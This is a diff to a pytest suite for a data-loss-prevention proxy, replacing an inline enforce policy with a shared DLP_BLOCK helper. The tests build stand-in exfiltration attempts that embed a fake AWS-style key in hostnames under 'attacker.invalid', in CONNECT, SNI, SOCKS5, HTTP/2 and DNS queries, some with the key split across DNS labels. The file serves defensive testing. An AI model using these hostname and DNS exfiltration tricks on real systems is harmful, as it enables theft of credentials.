@@ -20,19 +20,12 @@ from pathlib import Path
 import pytest
 
 from tests.helpers import network_events, read_tape
-from tests.security.helpers import read_head, send_raw
+from tests.security.helpers import DLP_BLOCK, read_head, send_raw
 from tests.security.upstream import LoggingUpstream
 
 KEY = "AKIAIOSFODNN7EXAMPLQ"  # gitleaks' aws-access-key-id shape, not a real key
 
-ENFORCE = """
-version: 1
-mode: enforce
-default: ALLOW
-dlp:
-  severity_actions: {critical: BLOCK, high: BLOCK}
-"""
-RESOLVING = ENFORCE + "network:\n  block_private_resolved: true\n"
+RESOLVING = DLP_BLOCK + "network:\n  block_private_resolved: true\n"
 
 
 def _tape_bytes(tape: Path) -> bytes:
@@ -47,7 +40,7 @@ def _no_key_in(data: bytes) -> bool:
 def test_a_connect_to_a_secret_host_is_refused_before_the_tunnel_opens(
     start_proxy, policy_file, tmp_path: Path, key: str
 ) -> None:
-    proxy = start_proxy(policy_file(ENFORCE))
+    proxy = start_proxy(policy_file(DLP_BLOCK))
     authority = f"{key}.attacker.invalid:443"
     answer = send_raw(proxy.port, f"CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\n\r\n".encode())
     proxy.flush()
@@ -88,7 +81,7 @@ def test_failcores_own_lookup_never_carries_a_secret(
 def test_a_secret_in_the_sni_never_reaches_the_upstream(
     start_proxy, policy_file, logging_upstream: LoggingUpstream, tmp_path: Path
 ) -> None:
-    proxy = start_proxy(policy_file(ENFORCE), upstream_ca=logging_upstream.ca_path)
+    proxy = start_proxy(policy_file(DLP_BLOCK), upstream_ca=logging_upstream.ca_path)
     authority = f"localhost:{logging_upstream.port}"
     with socket.create_connection(("127.0.0.1", proxy.port), timeout=30) as raw:
         raw.sendall(f"CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\n\r\n".encode())
@@ -111,7 +104,7 @@ def test_a_secret_in_the_sni_never_reaches_the_upstream(
 
 def test_a_key_split_across_dns_labels_is_refused(start_proxy, policy_file, tmp_path: Path) -> None:
     """A DNS label holds at most 63 characters: a longer key must be split at dots, a short one can be."""
-    proxy = start_proxy(policy_file(ENFORCE))
+    proxy = start_proxy(policy_file(DLP_BLOCK))
     authority = f"{KEY[:10]}.{KEY[10:]}.attacker.invalid:443"
     answer = send_raw(proxy.port, f"CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\n\r\n".encode())
     proxy.flush()
@@ -125,7 +118,7 @@ def test_a_reverse_proxy_never_offers_a_secret_sni_upstream(
 ) -> None:
     """Outside a tunnel the upstream handshake names the reverse proxy's own target instead."""
     proxy = start_proxy(
-        policy_file(ENFORCE),
+        policy_file(DLP_BLOCK),
         upstream_ca=logging_upstream.ca_path,
         modes=[f"reverse:https://localhost:{logging_upstream.port}@0"],
     )
@@ -156,7 +149,7 @@ def test_a_socks5_target_holding_a_secret_is_never_looked_up(
         return real(host, *args, **kw)
 
     monkeypatch.setattr(socket, "getaddrinfo", logging_getaddrinfo)
-    proxy = start_proxy(policy_file(ENFORCE), modes=["socks5"])
+    proxy = start_proxy(policy_file(DLP_BLOCK), modes=["socks5"])
 
     def socks5_get(host: bytes) -> bytes:
         with real_connection(proxy.port) as c:
@@ -191,7 +184,7 @@ def test_an_http2_authority_holding_a_lower_cased_secret_is_refused(
 
     # Lazy: mitmproxy offers HTTP/2 to the client without asking the upstream first.
     proxy = start_proxy(
-        policy_file(ENFORCE), upstream_ca=logging_upstream.ca_path, sets=["connection_strategy=lazy"]
+        policy_file(DLP_BLOCK), upstream_ca=logging_upstream.ca_path, sets=["connection_strategy=lazy"]
     )
     status = None
     with socket.create_connection(("127.0.0.1", proxy.port), timeout=30) as raw:
@@ -240,7 +233,7 @@ def test_a_dns_question_holding_a_secret_is_refused_before_mitmproxy_resolves_it
     with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
         probe.bind(("127.0.0.1", 0))
         port = probe.getsockname()[1]
-    proxy = start_proxy(policy_file(ENFORCE), modes=[f"dns@127.0.0.1:{port}"])
+    proxy = start_proxy(policy_file(DLP_BLOCK), modes=[f"dns@127.0.0.1:{port}"])
 
     def a_query(name: str, query_id: int) -> bytes:
         question = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
